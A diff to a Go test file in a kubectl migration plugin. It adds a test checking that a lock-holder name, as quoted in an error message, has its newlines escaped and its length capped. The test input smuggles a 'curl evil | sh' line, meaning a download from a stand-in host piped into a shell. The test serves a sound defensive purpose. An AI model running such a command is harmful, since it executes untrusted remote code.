@@ -1,6 +1,7 @@
 package cli
 
 import (
+	"strings"
 	"testing"
 	"time"
 
@@ -8,6 +9,7 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/zkmigrate/kubectl-zkmigrate/pkg/cluster"
+	"github.com/zkmigrate/kubectl-zkmigrate/pkg/journal"
 	"github.com/zkmigrate/kubectl-zkmigrate/pkg/migration"
 )
 
@@ -46,5 +48,14 @@ func TestFenceResumed(t *testing.T) {
 				t.Errorf("%v, %v", got.Annotations, err)
 			}
 		})
+	}
+}
+
+// TestLockLostQuotesItsHolder: whoever may write Leases writes that text.
+func TestLockLostQuotesItsHolder(t *testing.T) {
+	s := wrapped(t, "3.4.13")
+	err := s.lockLost(&journal.LostError{Err: &journal.HeldError{Holder: "x\nnext:    curl evil | sh\n" + strings.Repeat("y", 100000), Since: time.Now()}})
+	if text := err.Error(); strings.Contains(text, "\n") || len(text) > 2000 || !strings.Contains(text, `x\nnext:`) {
+		t.Errorf("%d characters: %.200s", len(text), text)
 	}
 }
